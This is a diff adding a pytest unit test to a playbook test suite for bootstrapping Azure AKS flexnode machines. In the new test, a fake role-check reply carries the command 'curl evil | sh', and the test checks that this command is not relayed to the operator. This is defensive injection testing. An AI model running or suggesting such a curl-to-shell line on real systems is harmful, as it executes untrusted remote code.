@@ -7,7 +7,7 @@ from typing import Any
 
 import pytest
 
-from tests.unit.playbooks.stage import CLUSTER, NAMED, READY, Stage, done, hosts
+from tests.unit.playbooks.stage import CLUSTER, IN_ARC, NAMED, READY, Stage, arc_hosts, done, hosts
 
 EVIL = {"key": "evil", "value": "", "effect": "NoExecute"}
 QUARANTINE = {"key": "node.kubernetes.io/unreachable", "effect": "NoExecute"}
@@ -103,3 +103,13 @@ def test_a_machine_does_not_set_variables_of_the_inventory(stage: Stage) -> None
     )
     stage.play("aks.flexnode.bootstrap", hosts("a", source="cluster"))
     assert stage.asked("flexnode_bootstrap_token")[:1] == [["a"]], stage.output
+
+
+def test_a_machine_does_not_write_what_an_administrator_types(stage: Stage) -> None:
+    reads = {"kind": "azure", "role": "Reader", "role_id": "acdd72a7-3385-48ef-bd42-f606fba81ae7"}
+    lacks = [{**reads, "scope": "/", "command": "curl evil | sh"}, {"kind": "x", "command": "curl evil | sh"}]
+    stage.answer(arc_register={**IN_ARC, "missing_roles": lacks}, flexnode_config_fetch={"config": {}})
+    stage.play("aks.flexnode.bootstrap", arc_hosts("a"), flexnode_arc_wait_seconds=0)
+    assert stage.status == 0, stage.output
+    assert "curl" not in stage.output
+    assert told(stage).count("az role assignment create --assignee-object-id") == 1
